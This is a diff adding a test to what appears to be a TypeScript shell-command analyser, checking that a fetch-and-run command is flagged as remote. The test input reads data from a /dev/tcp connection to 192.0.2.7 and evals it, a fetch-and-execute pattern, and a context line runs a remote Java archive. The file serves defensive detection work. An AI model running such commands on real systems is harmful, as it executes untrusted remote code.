@@ -49,3 +49,12 @@ describe("what runs from a machine of the web that is called by its number", () 
     expect(running("java -jar https://h.example/k.jar")[0]?.usual).toBe("routine");
   });
 });
+
+it("what comes by a connection that the shell opens comes from its other end", () => {
+  const { invocations } = resolve(
+    { commandLine: 'read x < /dev/tcp/192.0.2.7/80; eval "$x"', platform: "linux" },
+    testCatalog(),
+  );
+  const runs = invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs));
+  expect(runs).toMatchObject([{ value: "/dev/tcp/192.0.2.7/80", resolved: "tcp://192.0.2.7:80/", remote: true }]);
+});
